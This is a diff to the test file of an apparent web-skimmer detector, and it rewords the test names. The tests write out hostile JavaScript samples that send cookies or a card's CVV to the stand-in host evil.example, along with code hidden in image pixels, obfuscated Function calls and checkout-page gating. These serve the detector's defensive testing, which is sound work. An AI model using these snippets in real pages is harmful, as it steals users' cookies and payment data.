@@ -1,10 +1,10 @@
-// Guards the less usual ways in which a program comes by what somebody types, by code, and by what it asks.
+// Unusual ways in which a program gets typed data, code, and environment facts.
 import { describe, expect, it } from 'vitest'
 import { factsOf, flows, look as lookAt } from './look.ts'
 
 const evil = 'https://evil.example/g'
 
-describe('what is typed is seen', () => {
+describe('typed data is recognized', () => {
   it.each([
     [
       'in what the page sends, where the program has put itself between',
@@ -52,7 +52,7 @@ describe('what is typed is seen', () => {
     expect(flows(text)).toContain(flow)
   })
 
-  it('and what only passes on to where the page itself sends it is no flow', () => {
+  it('and passing data to where the page itself sends it is not a flow', () => {
     expect(flows('const f = window.fetch; window.fetch = function (url, init) { console.log(url); return f(url, init) }')).toEqual([])
     expect(flows('var s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, b) }')).toEqual(
       [],
@@ -62,7 +62,7 @@ describe('what is typed is seen', () => {
 
 describe('every cookie at once', () => {
   const everyCookie = (text: string) => lookAt(text).findings.sources.some(({ what }) => what === 'every cookie')
-  it('is told from one that is cut out of them', () => {
+  it('is distinguished from a single cookie cut out of them', () => {
     expect(everyCookie(`new Image().src = "${evil}?c=" + escape(document.cookie) + "&l=" + location.href`)).toBe(true)
     expect(everyCookie(`fetch("${evil}", { method: "POST", body: JSON.stringify({ c: document.cookie }) })`)).toBe(true)
     expect(everyCookie(`new Image().src = "${evil}?c=" + document.cookie.split("; ")[0]`)).toBe(false)
@@ -71,8 +71,8 @@ describe('every cookie at once', () => {
   })
 })
 
-describe('code is seen', () => {
-  it('where it comes out of a picture', () => {
+describe('code is recognized', () => {
+  it('in the pixels of a picture', () => {
     const text = `var i = new Image(); i.onload = function () { var x = document.createElement("canvas").getContext("2d"); x.drawImage(i, 0, 0)
       var d = x.getImageData(0, 0, 9, 9).data, t = ""; for (var n = 3; n < d.length; n += 4) t += String.fromCharCode(d[n]); new Function(t)() }`
     const { facts, sources } = lookAt(text).findings
@@ -81,18 +81,18 @@ describe('code is seen', () => {
     ])
   })
 
-  it('where an object says as its text what it makes of another', () => {
+  it('if an object returns text computed from another', () => {
     expect(flows(`var o = {}; o.toString = Function('fetch("${evil}")'); var s = o + "."`)).toEqual([' > fetch evil.example'])
   })
 
-  it('with its place where Function runs what it makes of codes', () => {
+  it('with its position if Function runs text built from codes', () => {
     const text = 'var go = 1; Function(String.fromCharCode(97, 40, 41))()'
     const [run] = factsOf(text, 'runs-text')
     expect(run).toMatchObject({ decoded: true, length: 3 })
     expect(text.slice(run?.place?.start, run?.place?.end)).toBe('Function(String.fromCharCode(97, 40, 41))')
   })
 
-  it('and is not made up: a text that stands there, a timer of something unknown', () => {
+  it('and is not made up: a plain text, a timer with something unknown', () => {
     expect(factsOf('var g = Function("return this")()', 'runs-text')).toMatchObject([{ decoded: false }])
     expect(factsOf('export function wait(fn) { setTimeout(fn, 10) }', 'runs-text')).toEqual([])
   })
@@ -103,22 +103,22 @@ describe('code is seen', () => {
   })
 })
 
-describe('what a test asks', () => {
+describe('a condition that a program tests', () => {
   it.each([
     ['a comparison', 'if (location.pathname.replace("/", "") == "checkoutonepage") start()'],
     ['match', 'if (location.href.match(/onepage|checkout/)) start()'],
     ['a list', 'if (["/checkout", "/onepage"].indexOf(location.pathname) > -1) start()'],
     ['a switch', 'switch (location.pathname) { case "/checkout": start() }'],
     ['a test that is turned round', 'if (!(location.pathname != "/checkout")) start()'],
-  ])('is told with its words: %s', (_name, text) => {
+  ])('is reported with its words: %s', (_name, text) => {
     expect(factsOf(text, 'gate').filter(({ on, test }) => on === 'address' && /checkout/.test(test))).not.toEqual([])
   })
 
-  it('goes both ways where a list is asked for what only the page knows', () => {
+  it('takes both branches if a list is asked for what only the page knows', () => {
     expect(flows(`if (["/pay"].includes(location.pathname)) fetch("${evil}")`)).toEqual([' > fetch evil.example'])
   })
 
-  it('is no watch for developer tools where it only asks whether there is a console, or how wide the page is', () => {
+  it('is not a check for developer tools if it only tests for a console or the page width', () => {
     const asked = (text: string) => factsOf(text, 'gate').map(({ on }) => on)
     expect(asked('if (window.console && window.innerWidth < 768) start()')).not.toContain('tools')
     expect(asked('if ($(".menu").outerWidth() > 160) fold()')).not.toContain('tools')
@@ -130,7 +130,7 @@ it('a host of this machine is a host', () => {
   expect(flows('fetch("http://localhost:9002/c")')).toEqual([' > fetch localhost'])
 })
 
-it('a list that is turned round until a sum is right is turned in steps that it can afford', () => {
+it('a list that is rotated until a sum is right is rotated within the budget', () => {
   const texts = Array.from({ length: 120 }, (_, index) => (index === 100 ? '42x' : index === 101 ? '7y' : `t${index}`))
   const text = `var l = ${JSON.stringify(texts)}; function at(i) { var s = l[i], n = 0; for (var j = 0; j < 300; j++) n += j; return s }
     for (;;) { try { var v = parseInt(at(0)) / 2 + -parseInt(at(1)) * (parseInt(at(2)) / 1 + 1) + parseInt(at(3)) / 3; if (v === 1) break; else if (parseInt(at(0)) === 42) break; else l.push(l.shift()) } catch (e) { l.push(l.shift()) } }
@@ -144,13 +144,13 @@ it('a list that is turned round until a sum is right is turned in steps that it 
 it.each([
   ['a table of letters', '"0123456789abcdef"[n >> 4]'],
   ['a list', '[7, 3, 9, 4][n & 3]'],
-])('what %s makes of something that was typed tells of it', (_name, looked) => {
+])('the result of %s on typed data stays marked as typed', (_name, looked) => {
   expect(flows(`var n = document.querySelector("#cvv").value.charCodeAt(0); fetch("${evil}?" + ${looked})`)).toEqual([
     'card > fetch evil.example',
   ])
 })
 
-it('an address in numbered characters is read out of the markup that it was put into', () => {
+it('an address in numeric character references is decoded from its markup', () => {
   const numbered = [...evil].map((one) => `&#${one.charCodeAt(0)};`).join('')
   expect(flows(`$.post($("<div />").html("${numbered}").text(), { a: $("#cvv").val() })`)).toEqual(['card > ajax evil.example'])
   expect(flows(`var d = document.createElement("textarea"); d.innerHTML = "${numbered}"; fetch(d.value)`)).toEqual([
